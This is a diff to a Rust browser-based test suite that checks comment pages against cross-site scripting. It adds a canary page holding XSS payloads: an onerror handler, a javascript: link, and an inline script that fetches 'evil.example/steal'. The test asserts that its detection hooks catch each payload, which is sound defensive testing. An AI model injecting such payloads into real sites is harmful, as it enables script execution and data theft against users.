@@ -132,6 +132,43 @@ fn page_urls(origin: &str, prefix: &str, i: usize, p: &str) -> (String, String) 
     )
 }
 
+/// The hooks and the DOM check catch what they are there to catch: a page with a script, an
+/// event handler and a `javascript:` link fails them.
+async fn canary(c: &Client, embedder: &Embedder, origins: &[String]) {
+    let url = embedder.put(
+        "/canary",
+        "text/html",
+        "<!doctype html><title>canary</title><article class=\"c\" id=\"comment-1\">\
+         <div class=\"body\"><img src=\"/nothing\" onerror=\"alert('img')\">\
+         <a href=\"javascript:alert('link')\">x</a></div></article>\
+         <script>confirm('script'); fetch('https://evil.example/steal');</script>"
+            .into(),
+    );
+    let place = places::thread_page();
+    let boxes = probe::Boxes {
+        box_css: "article.c",
+        content: &[(".body", probe::BODY_TAGS)],
+        ..place.boxes
+    };
+    let seen = probe::visit(c, &url, &boxes, None, origins).await;
+    let all = seen.problems.join("\n");
+    for expected in [
+        "ran: alert: img",
+        "ran: confirm: script",
+        "ran: fetch to a foreign host",
+        "event handler onerror",
+        "script URL in href",
+        "a script:",
+        "<img> inside .body",
+    ] {
+        assert!(
+            all.contains(expected),
+            "the canary shows {expected:?}: {all}"
+        );
+    }
+    probe::console_hits(c).await;
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn xss_payloads_stay_inert_in_every_place() {
     let test = "xss_payloads_stay_inert_in_every_place";
@@ -255,6 +292,7 @@ async fn xss_payloads_stay_inert_in_every_place() {
     let origins = vec![s.base.clone(), embedder.origin.clone()];
     probe::install_hooks(&c, &origins).await;
     let mut report = Report::default();
+    canary(&c, &embedder, &origins).await;
     let ids = |list: &[Stored], prefix: &str| -> Vec<String> {
         list.iter().map(|c| format!("{prefix}{}", c.id)).collect()
     };
@@ -289,6 +327,8 @@ async fn xss_payloads_stay_inert_in_every_place() {
 
     // The admin queue, page by page, then each held comment's page.
     sign_in_browser(&c, &s).await;
+    // Our own sign-in form was submitted: that is the one form allowed to be.
+    probe::console_hits(&c).await;
     let place = places::admin_queue();
     let mut pages = Vec::new();
     let mut expected: Vec<String> = ids(&held, "");
